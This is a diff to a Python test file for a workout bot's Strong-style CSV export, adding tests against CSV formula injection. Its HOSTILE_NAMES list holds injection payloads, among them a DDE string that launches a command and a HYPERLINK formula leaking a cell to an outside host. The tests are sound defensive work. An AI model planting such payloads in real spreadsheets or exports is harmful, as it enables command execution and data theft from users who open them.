@@ -14,7 +14,9 @@ from bot.core.catalogue import CATALOGUE
 from bot.core.history import Entry
 from bot.core.logparse.reading import LoggedSet
 from bot.core.profile import Units
-from bot.core.transfer.export_csv import export_filename, export_strong_csv
+from bot.core.text_input import clean_name
+from bot.core.transfer.export_csv import STRONG_COLUMNS, export_filename, export_strong_csv
+from bot.core.transfer.formula_cells import FORMULA_STARTS, neutralise_formula, restore_formula
 from bot.core.transfer.import_csv import ImportFormat, ImportResult, parse_import
 from bot.core.workout import convert_load
 
@@ -46,7 +48,10 @@ def test_the_header_is_strongs_exactly() -> None:
 def test_one_row_per_set_with_strongs_fields() -> None:
     text = export_strong_csv([thrusts((8, 100), (8, 100), (6, 102.5), rpe=8.5)], Units.KG)
 
-    assert text.splitlines()[1] == "2026-11-23 12:00:00,Coach,,Barbell hip thrust,1,100,8,0,0,,,8.5"
+    # Text quoted, numbers not, as Strong writes them (and as OWASP advises: see below).
+    assert text.splitlines()[1] == (
+        '"2026-11-23 12:00:00","Coach","","Barbell hip thrust",1,100,8,0,0,"","",8.5'
+    )
     assert [(r["Set Order"], r["Weight"], r["Reps"], r["RPE"]) for r in rows(text)] == [
         ("1", "100", "8", "8.5"),
         ("2", "100", "8", "8.5"),
@@ -128,7 +133,8 @@ _names = st.one_of(
     st.sampled_from([(e.id, e.name) for e in CATALOGUE]),
     st.tuples(
         st.none(),
-        st.text(st.characters(codec="utf-8"), min_size=1, max_size=30).map(str.strip).filter(bool),
+        # Names as Coach stores them: imports clean them (tested in test_import_csv).
+        st.text(st.characters(codec="utf-8"), min_size=1, max_size=30).map(clean_name).filter(bool),
     ),
 )
 _entries = st.builds(
@@ -169,3 +175,86 @@ def test_export_then_import_gives_the_same_sets(entries: list[Entry], units: Uni
         for exercise in workout.exercises:
             if exercise.name in catalogue_ids:
                 assert exercise.exercise_id == catalogue_ids[exercise.name]
+
+
+# --- Formulas (CSV injection) ------------------------------------------------------------------
+#
+# OWASP's CSV Injection page: no cell may begin with = + - @ tab or carriage return, which a
+# spreadsheet runs as a formula; a single quote before such a cell makes it text.
+
+HOSTILE_NAMES = [
+    "=cmd|' /C calc'!A0",
+    "+SUM(A1:A9)",
+    "@SUM(1)",
+    '=HYPERLINK("http://example.com/?leak="&A1,"Click")',
+    "-2+3+cmd|' /C calc'!A0",
+    "\t=1+2",
+    "\r=1+2",
+    "'=already quoted",
+    "''@twice",
+]
+_NUMERIC_COLUMNS = ("Set Order", "Weight", "Reps", "Distance", "Seconds")
+
+
+def named(*names: str) -> list[Entry]:
+    return [Entry(MONDAY, None, name, (LoggedSet(8, 60, "kg"),)) for name in names]
+
+
+def test_formula_names_are_exported_as_text_and_imported_as_they_were() -> None:
+    text = export(named(*HOSTILE_NAMES))
+
+    cells = [r["Exercise Name"] for r in rows(text)]
+    assert cells == ["'" + name for name in HOSTILE_NAMES]
+    assert "\"'=cmd|' /C calc'!A0\"" in text  # quoted whole: no spreadsheet splits it
+    result = parse_import(text.encode(), person_units=Units.KG)
+    assert isinstance(result, ImportResult)
+    # Tab and carriage return are whitespace, which an import folds (see test_import_csv):
+    # "\t=1+2" and "\r=1+2" are both "=1+2", one exercise.
+    expected = list(dict.fromkeys(clean_name(name) for name in HOSTILE_NAMES))
+    assert [e.name for e in result.workouts[0].exercises] == expected
+
+
+def test_ordinary_names_and_numbers_are_written_as_they_are() -> None:
+    names = ["Hip thrust", "90/90 hip lift", "Glute-ham raise", "'Single' leg RDL", "A+ curl"]
+    text = export(named(*names))
+
+    assert [r["Exercise Name"] for r in rows(text)] == names
+    assert text.splitlines()[1].endswith(',"Hip thrust",1,60,8,0,0,"","",""')
+
+
+@given(st.text())
+def test_any_cell_neutralised_starts_with_no_formula_and_reads_back(cell: str) -> None:
+    written = neutralise_formula(cell)
+
+    assert not written.startswith(FORMULA_STARTS)
+    assert restore_formula(written) == cell
+
+
+_any_names = st.text(min_size=1, max_size=40)
+
+
+@given(st.lists(_any_names, min_size=1, max_size=5), st.sampled_from(Units))
+def test_no_exported_cell_starts_with_a_formula_character(names: list[str], units: Units) -> None:
+    text = export(named(*names), units)
+
+    for row in list(csv.reader(io.StringIO(text, newline="")))[1:]:
+        assert not [cell for cell in row if cell.startswith(FORMULA_STARTS)], row
+        numbers = [row[STRONG_COLUMNS.index(column)] for column in _NUMERIC_COLUMNS]
+        assert all(float(number) >= 0 for number in numbers), row
+
+
+_stored_names = (
+    st.text(st.characters(codec="utf-8"), min_size=1, max_size=60).map(clean_name).filter(bool)
+)
+
+
+@given(st.lists(_stored_names, min_size=1, max_size=5, unique=True))
+def test_any_stored_name_round_trips_exactly(names: list[str]) -> None:
+    exported = export(named(*names))
+    result = parse_import(exported.encode(), person_units=Units.KG)
+
+    assert isinstance(result, ImportResult)
+    imported = [e.name for e in result.workouts[0].exercises]
+    assert imported == names
+    again = [Entry(MONDAY, None, name, (LoggedSet(8, 60, "kg"),)) for name in imported]
+    assert export(again) == exported
